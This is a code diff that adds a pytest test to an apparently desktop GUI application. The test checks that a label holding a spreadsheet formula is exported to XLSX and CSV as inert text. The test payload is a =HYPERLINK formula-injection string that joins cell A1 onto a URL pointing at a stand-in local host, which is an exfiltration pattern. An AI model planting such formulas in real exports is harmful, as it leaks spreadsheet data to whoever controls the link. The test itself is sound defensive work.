@@ -90,3 +90,28 @@ def test_workbook_from_the_menu(make_window, interaction, tmp_path):
     wb = openpyxl.load_workbook(out, read_only=True)
     assert wb.sheetnames == ["Comparison", "Evidence", "Parity"]
     wb.close()
+
+
+def test_a_label_that_is_a_formula_leaves_the_workbook_and_the_csv_as_text(make_window, interaction, tmp_path):
+    """The GUI writes through the same rule as ``deepdecide export``: no cell is a formula."""
+    import dataclasses
+
+    openpyxl = pytest.importorskip("openpyxl")
+    from deepdecide.domain import edits
+
+    window = make_window()
+    doc = window.document
+    payload = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"details")'
+    f = doc.workspace.evidence.files[0]
+    doc.edit(edits.SetEvidenceFile(0, dataclasses.replace(
+        f, provenance=dataclasses.replace(f.provenance, label=payload))), "label")
+    interaction.table_path = str(tmp_path / "w.xlsx")
+    window.act_export_xlsx.trigger()
+    assert not interaction.errors
+    wb = openpyxl.load_workbook(tmp_path / "w.xlsx")
+    assert not any(c.data_type == "f" for s in wb for row in s.iter_rows() for c in row)
+    head = [c.value for c in wb["Evidence"][1]]
+    assert payload in [row[head.index("file_label")].value for row in wb["Evidence"].iter_rows(min_row=2)]
+    interaction.table_path = str(tmp_path / "e.csv")
+    window.act_export_evidence.trigger()
+    assert "'" + payload in [r["file_label"] for r in rows_of(tmp_path / "e.csv")]
